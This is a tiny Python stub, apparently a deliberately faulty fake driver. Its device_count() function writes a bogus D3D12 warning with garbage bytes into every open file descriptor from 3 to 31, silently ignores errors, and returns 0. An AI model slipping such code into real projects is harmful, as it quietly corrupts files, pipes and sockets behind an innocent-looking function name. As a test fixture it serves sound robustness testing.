"""A driver that writes into whatever is open."""

import contextlib
import os


def device_count() -> int:
    for descriptor in range(3, 32):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"D3D12 WARNING: \xff\xfe live objects\n")
    return 0
